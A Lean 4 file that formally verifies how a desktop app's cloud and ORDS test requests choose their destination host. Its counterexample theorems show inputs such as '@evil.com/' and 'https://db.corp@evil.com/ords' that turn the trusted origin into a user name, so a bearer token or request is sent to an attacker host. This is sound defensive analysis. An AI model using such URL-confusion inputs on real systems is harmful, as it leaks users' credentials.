/-
  File:      Veesker/Host/Requests.lean
  Subject:   THE REQUESTS THE RENDERER ASKS FOR (cloud_api_get, cloud_api_post and ords_test_http in
             src-tauri/src/commands.rs): what each of them checks, and where it sends to.

  The cloud's origin is put in front of the renderer's path; a test of ORDS has a URL whose text has
  to begin with the base's. In both the URL goes on from a text that is trusted, and what is sent
  goes to the URL as it is parsed.

  * **`sentToApi_iff`** -- when the token goes to the cloud's host;
  * `token_elsewhere` -- the origin becomes the user name of another host;
  * **`sent_below_iff`** -- when a test goes below the accepted base;
  * `sent_elsewhere` -- likewise the base.
-/
import Veesker.Format.Url
import Veesker.Text.Upper

namespace Veesker.Host.Requests

open Format
open Format.Url

/-- What a header may hold. -/
def isHeaderValue (value : Text) : Bool :=
  (utf8Bytes value).all fun b => b == 9 || (decide (32 ≤ b) && b != 127)

/-- A reader of plain names only. -/
def plainNames : HostReader where
  read s := if isPlainDomain s then some s else none
  plain s h := by rw [h]; rfl

/-! ## 1. The cloud -/

structure ApiRequest where
  url : Url
  bearer : Text
  body : Option Text
  deriving DecidableEq

def apiHost : Text := "api.veesker.cloud".toList

def apiBase : Text := "https://api.veesker.cloud".toList

/-- `airgap_blocked_string`. -/
def airgapBlocked : Text :=
  ("airgap_blocked: Air-gap mode active: outbound network calls are disabled for this ".toList ++
    "connection".toList)

/-- A byte of a form's text. -/
def formByte (b : UInt8) : Text :=
  let c := Char.ofNat b.toNat
  if c.isAlphanum || ['*', '-', '.', '_'].contains c then [c]
  else if c == ' ' then ['+'] else percentByte b

def formPair (pair : Text × Text) : Text :=
  (utf8Bytes pair.1).flatMap formByte ++ '=' :: (utf8Bytes pair.2).flatMap formByte

/-- `RequestBuilder::query`. -/
def withQuery (url : Url) (pairs : List (Text × Text)) : Url :=
  let parts := (url.query.toList.filter fun q => !q.isEmpty) ++ pairs.map formPair
  { url with query := if parts.isEmpty then none else some (['&'].intercalate parts) }

/-- The token and the URL that a call of the cloud is sent with. -/
def authorized (H : HostReader) (airgap : Bool) (token : Except Text (Option Text)) (path : Text) :
    Except Text (Url × Text) :=
  if airgap then .error airgapBlocked
  else match token with
    | .error e => .error e
    | .ok none => .error "not_authenticated".toList
    | .ok (some token) => match parseUrl H (apiBase ++ path) with
      | none => .error "builder error".toList
      | some url =>
        if isHeaderValue token then .ok (url, token) else .error "builder error".toList

/-- `cloud_api_get`, up to the request. -/
def cloudApiGet (H : HostReader) (airgap : Bool) (token : Except Text (Option Text)) (path : Text)
    (params : Option (List (Text × Text))) : Except Text ApiRequest :=
  match authorized H airgap token path with
  | .error e => .error e
  | .ok (url, token) => .ok ⟨params.elim url (withQuery url), token, none⟩

/-- `cloud_api_post`, up to the request; the body is a JSON text. -/
def cloudApiPost (H : HostReader) (airgap : Bool) (token : Except Text (Option Text)) (path : Text)
    (body : Text) : Except Text ApiRequest :=
  match authorized H airgap token path with
  | .error e => .error e
  | .ok (url, token) => .ok ⟨url, token, some body⟩

/-! ## 2. Where the token goes -/

/-- The cloud's own host over https, and no user name. -/
def IsApi (url : Url) : Prop :=
  url.scheme = .https ∧ url.authority.host = apiHost ∧ url.authority.username = [] ∧
    url.authority.password = []

instance (url : Url) : Decidable (IsApi url) :=
  inferInstanceAs (Decidable (_ ∧ _ ∧ _ ∧ _))

/-- What a path adds to the origin's authority. -/
def lengthening (path : Text) : Text := (cutAuthority (addition apiBase path)).1

/-- **The condition**: no user name is made of the origin, and its host is read as before. -/
def KeepsOrigin (H : HostReader) (path : Text) : Prop :=
  '@' ∉ lengthening path ∧ H.read (apiHost ++ (cutHost false (lengthening path)).1) = some apiHost

variable {H : HostReader}

theorem start_apiBase : start apiBase = some (.https, apiHost) := by decide

theorem readHostPort_apiHost :
    readHostPort H .https apiHost = some (apiHost, none) := by
  have hcut : cutHost false apiHost = (apiHost, []) := by decide
  have hread : H.read apiHost = some apiHost := H.plain _ (by decide)
  rw [readHostPort, hcut]
  simp only [hread]
  rfl

/-- The cloud's URL with a path is read behind the origin's host. -/
theorem parseUrl_api (H : HostReader) (path : Text) :
    parseUrl H (apiBase ++ path) = readBehind H .https (apiHost ++ addition apiBase path) := by
  rw [parseUrl, start_append start_apiBase (by decide)]

theorem cutHost_append {s : Text} (h : ∀ c ∈ s, c ≠ ':' ∧ c ≠ '[' ∧ c ≠ ']') (t : Text) :
    cutHost false (s ++ t) = (s ++ (cutHost false t).1, (cutHost false t).2) := by
  induction s with
  | nil => rfl
  | cons c s ih =>
    obtain ⟨hcolon, hopen, hclose⟩ := h c List.mem_cons_self
    rw [List.cons_append, cutHost, if_neg (by simp [hcolon]), if_neg (by simp [hopen]),
      if_neg (by simp [hclose]), ih fun x hx => h x (List.mem_cons_of_mem _ hx)]
    rfl

theorem apiHost_plain : ∀ c ∈ apiHost, c ≠ ':' ∧ c ≠ '[' ∧ c ≠ ']' := by
  have h : (apiHost.all fun c => c != ':' && c != '[' && c != ']') = true := by decide
  intro c hc
  simpa [and_assoc] using List.all_eq_true.mp h c hc

/-- **The URL with a path** is the cloud's exactly if the path keeps the origin. -/
theorem isApi_iff {path : Text} {url : Url} (h : parseUrl H (apiBase ++ path) = some url) :
    IsApi url ↔ KeepsOrigin H path := by
  rw [parseUrl_api] at h
  obtain ⟨hscheme, hauthority, -⟩ := readBehind_authority h
  rw [cutAuthority_open (by decide)] at hauthority
  have hauthority' : readAuthority H .https (apiHost ++ lengthening path) = some url.authority :=
    hauthority
  rw [IsApi, KeepsOrigin]
  by_cases hat : '@' ∈ lengthening path
  · refine iff_of_false (fun hapi => ?_) fun hkeeps => hkeeps.1 hat
    have hbase : readAuthority H .https apiHost = some ⟨[], [], apiHost, none⟩ := by
      have hcut : cutUserinfo apiHost = (none, apiHost) := by decide
      rw [readAuthority, hcut]
      simp only [readHostPort_apiHost]
      rfl
    have hsize := userinfo_of_at hbase hat hauthority'
    rw [hapi.2.2.1, hapi.2.2.2] at hsize
    exact absurd hsize (Nat.lt_irrefl _)
  · have hcut : cutUserinfo (apiHost ++ lengthening path) =
        (none, apiHost ++ lengthening path) := by
      rw [cutUserinfo_append hat]
      rfl
    have huserinfo := readAuthority_userinfo hauthority'
    have hread := readAuthority_hostPort hauthority'
    rw [hcut] at huserinfo hread
    obtain ⟨hname, hpass⟩ := Prod.mk.inj huserinfo
    have hhost : H.read (apiHost ++ (cutHost false (lengthening path)).1) =
        some url.authority.host := by
      rw [readHostPort, cutHost_append apiHost_plain] at hread
      split at hread
      · cases hread
      · split at hread
        · rename_i host port hhost hport
          obtain ⟨rfl, -⟩ := Prod.mk.inj (Option.some.inj hread)
          exact hhost
        · cases hread
    rw [hhost, Option.some.injEq]
    exact ⟨fun hapi => ⟨hat, hapi.2.1⟩, fun hkeeps => ⟨hscheme, hkeeps.2, hname, hpass⟩⟩

variable {token : Except Text (Option Text)}

/-- What is authorized goes to the URL with the path. -/
theorem authorized_url {airgap : Bool} {path bearer : Text}
    {url : Url} (h : authorized H airgap token path = .ok (url, bearer)) :
    parseUrl H (apiBase ++ path) = some url := by
  unfold authorized at h
  split at h
  · cases h
  split at h
  · cases h
  · cases h
  split at h
  · cases h
  · rename_i u hurl
    split at h
    · obtain ⟨rfl, -⟩ := Prod.mk.inj (Except.ok.inj h)
      exact hurl
    · cases h

theorem cloudApiGet_ok {airgap : Bool} {path : Text}
    {params : Option (List (Text × Text))} {r : ApiRequest}
    (h : cloudApiGet H airgap token path params = .ok r) :
    ∃ url, parseUrl H (apiBase ++ path) = some url ∧ (IsApi r.url ↔ IsApi url) := by
  rw [cloudApiGet] at h
  split at h
  · cases h
  · rename_i url bearer hauthorized
    cases h
    refine ⟨url, authorized_url hauthorized, ?_⟩
    cases params with
    | none => rfl
    | some pairs => rfl

theorem cloudApiPost_ok {airgap : Bool} {path body : Text}
    {r : ApiRequest} (h : cloudApiPost H airgap token path body = .ok r) :
    parseUrl H (apiBase ++ path) = some r.url := by
  rw [cloudApiPost] at h
  split at h
  · cases h
  · rename_i url bearer hauthorized
    cases h
    exact authorized_url hauthorized

/-- **When the token goes to the cloud's host**, for every path. -/
theorem sentToApi_iff (H : HostReader) (path : Text) :
    ((∀ airgap token params r, cloudApiGet H airgap token path params = .ok r → IsApi r.url) ∧
      ∀ airgap token body r, cloudApiPost H airgap token path body = .ok r → IsApi r.url) ↔
    parseUrl H (apiBase ++ path) = none ∨ KeepsOrigin H path := by
  constructor
  · intro h
    obtain ⟨-, hpost⟩ := h
    cases hurl : parseUrl H (apiBase ++ path) with
    | none => exact .inl rfl
    | some url =>
      refine .inr ((isApi_iff hurl).mp (hpost false (.ok (some [])) [] ⟨url, [], some []⟩ ?_))
      unfold cloudApiPost authorized
      simp only [hurl]
      rfl
  · intro h
    constructor
    · intro airgap token params r hr
      obtain ⟨url, hurl, hsame⟩ := cloudApiGet_ok hr
      rw [hurl] at h
      exact hsame.mpr ((isApi_iff hurl).mpr (h.resolve_left (Option.some_ne_none url)))
    · intro airgap token body r hr
      have hurl := cloudApiPost_ok hr
      rw [hurl] at h
      exact (isApi_iff hurl).mpr (h.resolve_left (Option.some_ne_none r.url))

/-- **The origin becomes the user name of another host**, and the token goes there. -/
theorem token_elsewhere :
    ∃ r ∈ (cloudApiGet plainNames false (.ok (some "token".toList)) "@evil.com/".toList
        none).toOption,
      r.bearer = "token".toList ∧ r.url.authority.host = "evil.com".toList ∧ ¬ IsApi r.url := by
  decide

/-! ## 3. A test of ORDS -/

structure CallErr where
  code : Int
  message : Text
  deriving DecidableEq

structure TestCall where
  method : Text
  url : Text
  headers : List (Text × Text) := []
  body : Option Text := none
  fallbackBaseUrl : Option Text := none
  deriving DecidableEq

inductive Method where
  | get
  | post
  | put
  | delete
  | patch
  deriving DecidableEq

structure TestRequest where
  method : Method
  url : Url
  headers : List (Text × Text)
  body : Option Text
  deriving DecidableEq

/-- `ORDS_TEST_ALLOWED_HEADERS`. -/
def allowedHeaders : List Text :=
  ["accept".toList, "accept-language".toList, "authorization".toList, "content-type".toList,
    "x-requested-with".toList]

def readMethod (method : Text) : Option Method :=
  [("GET".toList, Method.get), ("POST".toList, .post), ("PUT".toList, .put),
    ("DELETE".toList, .delete), ("PATCH".toList, .patch)].lookup (toUpperCase method)

/-- The headers that are passed on. -/
def keptHeaders (headers : List (Text × Text)) : List (Text × Text) :=
  headers.filter fun h => !h.1.isEmpty && allowedHeaders.contains (h.1.map Char.toLower)

/-- The base that is accepted: the detected one, or else the fallback. -/
def acceptedBase (H : HostReader) (detected fallback : Option Text) : Option Text :=
  match detected.filter fun s => !s.isEmpty with
  | some base => some base
  | none => fallback.filter fun s => !s.isEmpty && (parseUrl H s).isSome

/-- `ords_test_http` up to the request; `detect` is the sidecar's answer, and `foreign` tells the
    texts of URLs of other schemes. -/
def ordsTestHttp (H : HostReader) (foreign : Text → Bool) (detect : Except CallErr (Option Text))
    (call : TestCall) : Except CallErr TestRequest :=
  match detect with
  | .error e => .error e
  | .ok detected => match acceptedBase H detected call.fallbackBaseUrl with
    | none =>
      .error ⟨-32603, "ORDS base URL not detected and no valid fallback provided".toList⟩
    | some base => match parseUrl H call.url with
      | none =>
        if foreign call.url then .error ⟨-32602, "Only http/https URLs are allowed".toList⟩
        else .error ⟨-32602, "URL is not a valid absolute HTTPS/HTTP URL".toList⟩
      | some url =>
        if !startsWith call.url base then
          .error ⟨-32603, "URL not under detected ORDS base (".toList ++ base ++
            "). Compromised renderer or stale config.".toList⟩
        else match readMethod call.method with
          | none => .error ⟨-32602, "Method not supported: ".toList ++ call.method⟩
          | some method =>
            if (keptHeaders call.headers).all fun h => isHeaderValue h.2 then
              .ok ⟨method, url, keptHeaders call.headers, call.body⟩
            else .error ⟨-32603, "Request failed: builder error".toList⟩

/-! ## 4. Where the test goes -/

/-- The method and the headers are no reason to refuse. -/
def TestCall.sendable (call : TestCall) : Bool :=
  (readMethod call.method).isSome && (keptHeaders call.headers).all fun h => isHeaderValue h.2

variable {H : HostReader} {foreign : Text → Bool} {detected : Option Text} {call : TestCall}

/-- **What is sent** goes to the URL as it is parsed, and the URL's text begins with the base's. -/
theorem sent_iff {url : Url} :
    (∃ r, ordsTestHttp H foreign (.ok detected) call = .ok r ∧ r.url = url) ↔
      call.sendable = true ∧ parseUrl H call.url = some url ∧ ∃ base rest,
        acceptedBase H detected call.fallbackBaseUrl = some base ∧ call.url = base ++ rest := by
  rw [TestCall.sendable, Bool.and_eq_true]
  constructor
  · rintro ⟨r, hr, rfl⟩
    rw [ordsTestHttp] at hr
    split at hr
    · cases hr
    rename_i base hbase
    split at hr
    · split at hr <;> cases hr
    rename_i url hurl
    split at hr
    · cases hr
    rename_i hstarts
    split at hr
    · cases hr
    rename_i method hmethod
    split at hr
    · rename_i hheaders
      cases hr
      obtain ⟨rest, hrest⟩ := startsWith_iff.mp (by simpa using hstarts)
      exact ⟨⟨by rw [hmethod]; rfl, hheaders⟩, hurl, base, rest, hbase, hrest⟩
    · cases hr
  · rintro ⟨⟨hmethod, hheaders⟩, hurl, base, rest, hbase, hrest⟩
    obtain ⟨method, hmethod⟩ := Option.isSome_iff_exists.mp hmethod
    have hstarts : startsWith call.url base = true := startsWith_iff.mpr ⟨rest, hrest⟩
    refine ⟨⟨method, url, keptHeaders call.headers, call.body⟩, ?_, rfl⟩
    simp only [ordsTestHttp, hbase, hurl, hstarts, hmethod, hheaders, Bool.not_true,
      Bool.false_eq_true, if_false, if_true]

/-- **A detected base leaves the fallback without influence.** -/
theorem acceptedBase_detected {base : Text} (hne : base ≠ []) (fallback : Option Text) :
    acceptedBase H (some base) fallback = some base := by
  have : (some base).filter (fun s => !s.isEmpty) = some base := by
    simpa [Option.filter] using hne
  rw [acceptedBase, this]

/-- **The condition**: what is sent has a base that is a URL, and what its own URL goes on with
    keeps it below. -/
def GoesOnBelow (H : HostReader) (detected : Option Text) (call : TestCall) : Prop :=
  call.sendable = true → (parseUrl H call.url).isSome = true → ∀ text rest,
    acceptedBase H detected call.fallbackBaseUrl = some text → call.url = text ++ rest →
      ∃ base s, parseUrl H text = some base ∧ start text = some (base.scheme, s) ∧
        Keeps H base s (addition text rest)

/-- **When what is sent goes below the accepted base**, for every URL, base and fallback; a detected
    base always leaves the fallback without influence. -/
theorem sent_below_iff (H : HostReader) (foreign : Text → Bool) (detected : Option Text)
    (call : TestCall) :
    ((∀ r, ordsTestHttp H foreign (.ok detected) call = .ok r → ∃ text base,
        acceptedBase H detected call.fallbackBaseUrl = some text ∧ parseUrl H text = some base ∧
          Below base r.url) ∧
      ∀ base, base ≠ [] → detected = some base → ∀ fallback,
        ordsTestHttp H foreign (.ok detected) { call with fallbackBaseUrl := fallback } =
          ordsTestHttp H foreign (.ok detected) call) ↔
    GoesOnBelow H detected call := by
  constructor
  · rintro ⟨h, -⟩ hsendable hparsed text rest hbase hrest
    obtain ⟨url, hurl⟩ := Option.isSome_iff_exists.mp hparsed
    obtain ⟨r, hr, rfl⟩ := sent_iff.mpr ⟨hsendable, hurl, text, rest, hbase, hrest⟩
    obtain ⟨text', base, htext', hparse, hbelow⟩ := h r hr
    obtain rfl := Option.some.inj (hbase.symm.trans htext')
    obtain ⟨s, hstart, hb, hgoes⟩ := parseUrl_append hparse rest
    rw [← hrest, hurl] at hgoes
    exact ⟨base, s, hparse, hstart, (below_iff hb hgoes.symm).mp hbelow⟩
  · intro h
    constructor
    · intro r hr
      obtain ⟨hsendable, hurl, text, rest, hbase, hrest⟩ := sent_iff.mp ⟨r, hr, rfl⟩
      obtain ⟨base, s, hparse, hstart, hkeeps⟩ :=
        h hsendable (by rw [hurl]; rfl) text rest hbase hrest
      obtain ⟨s', hstart', hb, hgoes⟩ := parseUrl_append hparse rest
      obtain rfl := (Prod.mk.inj (Option.some.inj (hstart.symm.trans hstart'))).2
      rw [← hrest, hurl] at hgoes
      exact ⟨text, base, hbase, hparse, (below_iff hb hgoes.symm).mpr hkeeps⟩
    · rintro base hne rfl fallback
      simp only [ordsTestHttp, acceptedBase_detected hne]


def corpBase : Url := ⟨.https, ⟨[], [], "db.corp".toList, none⟩, [[]], none, none⟩

/-- The request for a URL that goes on with an `@`. -/
def evilRequest : TestRequest where
  method := .get
  url := ⟨.https, ⟨"db.corp".toList, [], "evil.com".toList, none⟩, ["ords".toList], none, none⟩
  headers := []
  body := none

/-- **The base becomes the user name of another host.** -/
theorem sent_elsewhere :
    ordsTestHttp plainNames (fun _ => false) (.ok (some "https://db.corp".toList))
        ⟨"GET".toList, "https://db.corp@evil.com/ords".toList, [], none, none⟩ =
        .ok evilRequest ∧
      acceptedBase plainNames (some "https://db.corp".toList) none =
        some "https://db.corp".toList ∧
      parseUrl plainNames "https://db.corp".toList = some corpBase ∧
      ¬ Below corpBase evilRequest.url := by
  refine ⟨by decide, by decide, by decide, fun h => ?_⟩
  exact absurd h.host (by decide)

end Veesker.Host.Requests
